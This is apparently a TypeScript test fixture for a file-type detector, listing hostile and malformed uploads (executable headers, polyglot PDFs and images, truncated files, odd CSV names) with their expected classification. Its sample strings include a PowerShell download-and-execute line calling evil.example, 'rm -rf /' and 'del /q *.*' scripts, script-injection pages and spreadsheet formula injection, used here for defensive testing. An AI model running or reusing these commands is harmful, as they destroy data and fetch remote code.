import * as documents from '../../support/documents.js';
import type { HostileFile } from './hostile-file.js';

const bytes = (hex: string, length = 600) => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(length, 7)]);
const row = (what: string, name: string, make: HostileFile[2], expected: string): HostileFile => [what, name, make, expected];

/** What is sent under the name of a report. */
const strangers: [what: string, content: Buffer | string][] = [
  ['a program for Windows', bytes('4d5a90000300000004000000ffff0000')],
  ['a program for Linux', bytes('7f454c4602010100')],
  ['a program for macOS', bytes('cffaedfe07000001')],
  ['a class of Java', bytes('cafebabe00000034')],
  ['WebAssembly', bytes('0061736d01000000')],
  ['a link of Windows', bytes('4c0000000114020000000000c000000000000046')],
  ['a batch file', '@echo off\r\ndel /q *.*\r\n'],
  ['a script of PowerShell', 'Invoke-WebRequest https://evil.example/a | iex\r\n'],
  ['a script of Visual Basic', 'CreateObject("WScript.Shell").Run "calc"\r\n'],
  ['a shell script', '#!/bin/sh\nrm -rf /\n'],
  ['a page', '<!doctype html><script>alert(1)</script>'],
  ['a page after blanks', ' \r\n\t<html><body onload="alert(1)">'],
  ['an application of Windows', '<html><hta:application id="a"/><script>new ActiveXObject("WScript.Shell")</script></html>'],
  ['a picture that runs', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
  ['XML with entities that grow', '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>'],
  ['JSON', '{"cells": "none", "nbformat": "four"}'],
  ['a list of JSON', '[1,2,3]'],
  ['a text', '데이터 분석 보고서입니다.\n'],
  ['rich text', '{\\rtf1\\ansi {\\object\\objocx}}'],
  ['GIF', bytes('474946383961')],
  ['GIF and an archive of Java', Buffer.concat([bytes('474946383961'), Buffer.from('PK\x03\x04')])],
  ['BMP', bytes('424d00000000')],
  ['TIFF', bytes('49492a00')],
  ['WebP', bytes('52494646000000005745425056503820')],
  ['an icon', bytes('00000100')],
  ['Photoshop', bytes('38425053')],
  ['a film', bytes('000000186674797069736f6d')],
  ['a sound', bytes('494433030000')],
  ['SQLite', Buffer.from('SQLite format 3\0')],
  ['Parquet', Buffer.from('PAR1aaaaPAR1')],
  ['gzip', bytes('1f8b080000000000')],
  ['RAR', bytes('526172211a0700')],
  ['7z', bytes('377abcaf271c')],
  ['XZ', bytes('fd377a585a00')],
  ['PostScript', '%!PS-Adobe-3.0\n(a) show\n'],
  ['an old HWP', Buffer.from('HWP Document File V3.00 \x1a\x01\x02\x03\x04\x05')],
  ['HWPML', '<?xml version="1.0"?><HWPML Version="2.8"><HEAD/></HWPML>'],
  ['a certificate', '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n'],
  ['zeros', Buffer.alloc(100_000)],
  ['one byte', 'a'],
];

const notTables: [what: string, content: Buffer | string][] = [
  ['a table with a zero in it', 'a,b\n1,\0\n'],
  ['a table with a program behind it', Buffer.concat([Buffer.from('a,b\n1,2\n'), bytes('4d5a9000')])],
  ['a table in UTF-16', Buffer.from('\ufeffa,b\r\n1,2\r\n', 'utf16le')],
  ['a text of one column', 'a\nb\nc\n'],
  ['one line', 'a,b,c'],
  ['lines of different lengths', 'a,b\n1,2,3\n4\n5,6,7,8\n9\n'],
  ['bytes of no writing', Buffer.from('a,b\n\xff\xfe,1\n', 'latin1')],
  ['a quote without an end', `a,b\n"${'x,\n'.repeat(5000)}`],
];

const cutOff = (
  [
    ['PDF', documents.aPdf],
    ['HWPX', () => documents.anHwpx()],
    ['DOCX', () => documents.aDocx()],
    ['XLSX', documents.anXlsx],
    ['PPTX', documents.aPptx],
    ['ZIP', documents.aZip],
    ['HWP', () => documents.anHwp()],
    ['PNG', () => documents.aPng()],
    ['JPEG', () => documents.aJpeg()],
    ['IPYNB', () => documents.aNotebook()],
  ] as [string, () => Buffer | string | Promise<Buffer>][]
).flatMap(([kind, make]) =>
  [0.3, 0.6, 0.95].map((part) =>
    row(
      `${kind} that was cut off after ${part * 100} %`,
      'a.pdf',
      async () => {
        const whole = Buffer.from((await make()) as Buffer);
        return whole.subarray(0, Math.floor(whole.length * part));
      },
      'FILE_DAMAGED',
    ),
  ),
);

const pdf = async (change: (text: string) => string): Promise<Buffer> =>
  Buffer.from(change((await documents.aPdf()).toString('latin1')), 'latin1');
const deep = (opening: string) => pdf((text) => text.replace('/Type /Catalog', `/A ${opening.repeat(100_000)}`));
/** Appended as editors do it. */
async function updatedPdf(): Promise<Buffer> {
  const before = (await documents.aPdf()).toString('latin1');
  const table = /startxref\n(\d+)/.exec(before)![1];
  const trailer = /trailer\n<<([\s\S]*?)>>/.exec(before)![1]!.replace(/\s+/g, ' ');
  return Buffer.from(`${before}\nxref\n0 0\ntrailer\n<<${trailer}/Prev ${table}>>\nstartxref\n${before.length + 1}\n%%EOF\n`, 'latin1');
}

const pdfs: HostileFile[] = [
  row('a PDF that is only a header', 'a.pdf', () => '%PDF-1.7\n', 'FILE_DAMAGED'),
  row('a PDF that is only a header and an end', 'a.pdf', () => '%PDF-1.7\nstartxref\n0\n%%EOF', 'PDF'),
  row('a PDF without an end', 'a.pdf', () => pdf((text) => text.replace('%%EOF', '')), 'FILE_DAMAGED'),
  row(
    'a PDF that does not say where its objects are',
    'a.pdf',
    () => pdf((text) => text.replace('startxref', 'startxxxx')),
    'FILE_DAMAGED',
  ),
  row('a PDF with a page before it', 'a.pdf', () => pdf((text) => `<script>alert(1)</script>${text}`), 'FILE_TYPE_UNKNOWN'),
  row('a PDF with a program before it', 'a.pdf', () => pdf((text) => `MZ\x90\0${text}`), 'FILE_TYPE_UNKNOWN'),
  row('a PDF with GIF before it', 'a.pdf', () => pdf((text) => `GIF89a${text}`), 'FILE_TYPE_UNKNOWN'),
  row(
    'a PDF with an archive behind it',
    'a.pdf',
    async () => Buffer.concat([await documents.aPdf(), await documents.aZip()]),
    'FILE_TYPE_UNKNOWN',
  ),
  row('a PDF whose header is far behind', 'a.pdf', () => pdf((text) => `${' '.repeat(1100)}${text}`), 'FILE_TYPE_UNKNOWN'),
  row('a PDF with a hundred thousand brackets', 'a.pdf', () => deep('['), 'PDF'),
  row('a PDF with a hundred thousand dictionaries', 'a.pdf', () => deep('<<'), 'PDF'),
  row(
    'a PDF with a number that is too large',
    'a.pdf',
    () => pdf((text) => text.replace(/startxref\n\d+/, 'startxref\n999999999999')),
    'PDF',
  ),
  row('a PDF with an end of its own before', 'a.pdf', () => pdf((text) => text.replace(/trailer\n<</, 'trailer\n<</Prev 0')), 'PDF'),
  row('a PDF with an update', 'a.pdf', updatedPdf, 'PDF'),
  row('a PDF with blanks before it', 'a.pdf', () => pdf((text) => `\r\n\r\n${text}`), 'PDF'),
  row('a PDF with zeros behind it', 'a.pdf', async () => Buffer.concat([await documents.aPdf(), Buffer.alloc(500)]), 'PDF'),
  row('a PDF of version 1.7', 'a.pdf', () => pdf((text) => text.replace('%PDF-1.3', '%PDF-1.7')), 'PDF'),
  row('a PDF with a file in it', 'a.pdf', () => documents.aPdf({ attachment: Buffer.from('a,b\n1,2\n') }), 'PDF'),
];

const pictures: HostileFile[] = [
  row('PNG with an archive behind it', 'a.png', async () => Buffer.concat([documents.aPng(), await documents.aZip()]), 'FILE_TYPE_UNKNOWN'),
  row(
    'JPEG with an archive behind it',
    'a.jpg',
    async () => Buffer.concat([documents.aJpeg(), await documents.aZip()]),
    'FILE_TYPE_UNKNOWN',
  ),
  row('PNG without its end', 'a.png', () => documents.aPng().subarray(0, -4), 'FILE_DAMAGED'),
  row('PNG that is only a beginning', 'a.png', () => Buffer.from('89504e470d0a1a0a', 'hex'), 'FILE_DAMAGED'),
  row('JPEG that is only a beginning', 'a.jpg', () => Buffer.from('ffd8ffe0', 'hex'), 'FILE_DAMAGED'),
  row(
    'HWP with an archive behind it',
    'a.hwp',
    async () => Buffer.concat([documents.anHwp(), await documents.aZip()]),
    'FILE_TYPE_UNKNOWN',
  ),
  row(
    'a notebook with an archive behind it',
    'a.ipynb',
    async () => Buffer.concat([Buffer.from(documents.aNotebook()), await documents.aZip()]),
    'FILE_TYPE_UNKNOWN',
  ),
  row('JPEG with what a camera adds', 'a.jpg', () => Buffer.concat([documents.aJpeg(), Buffer.alloc(100)]), 'JPEG'),
];

const notebooks: HostileFile[] = [
  row('a notebook of a thousand brackets', 'a.ipynb', () => `{"nbformat":4,"cells":${'['.repeat(1000)}`, 'FILE_TYPE_UNKNOWN'),
  row('a notebook that ends twice', 'a.ipynb', () => `${documents.aNotebook()}{}`, 'FILE_TYPE_UNKNOWN'),
  row('a notebook with a control in it', 'a.ipynb', () => documents.aNotebook().replace('print', 'pri\u0001nt'), 'FILE_TYPE_UNKNOWN'),
  row('a notebook of 8 MB', 'a.ipynb', () => documents.aNotebook('x'.repeat(8_000_000)), 'IPYNB'),
  row('a notebook of the third format', 'a.ipynb', () => '{"worksheets":[],"nbformat":3}', 'IPYNB'),
];

const tables: HostileFile[] = [
  row('a table in CP949', '자료.csv', () => Buffer.from('b1b8b1ba2cbaf3c1fd0d0ac1dfb1b82c3132300d0ac1dfb1b82c3334300d0a', 'hex'), 'CSV'),
  row('a table with a mark before it', 'a.csv', () => `\ufeff${documents.aCsv()}`, 'CSV'),
  row('a table with tabs', 'a.csv', () => 'a\tb\n1\t2\n', 'CSV'),
  row('a table with formulas', 'a.csv', () => 'a,b\n=1+1,@SUM(A1)\n', 'CSV'),
  row('a table under a long Korean name in pieces', `${'가'.repeat(196)}.csv`.normalize('NFD'), () => documents.aCsv(), 'CSV'),
  row('a table under a name of dots and blanks', '..  2025. 9. 자료 (최종) .CSV', () => documents.aCsv(), 'CSV'),
  row('a table under the name of a device', 'CON.csv', () => documents.aCsv(), 'CSV'),
];

export const otherFiles: HostileFile[] = [
  row('nothing', 'a.pdf', () => '', 'FILE_EMPTY'),
  ...strangers.map(([what, content]) =>
    row(
      `${what}, called a report`,
      '보고서.pdf',
      () => (typeof content === 'string' ? Buffer.from(content) : content),
      'FILE_TYPE_UNKNOWN',
    ),
  ),
  ...notTables.map(([what, content]) =>
    row(`${what}, called a table`, 'a.csv', () => (typeof content === 'string' ? Buffer.from(content) : content), 'FILE_TYPE_UNKNOWN'),
  ),
  ...cutOff,
  ...pdfs,
  ...pictures,
  ...notebooks,
  ...tables,
];
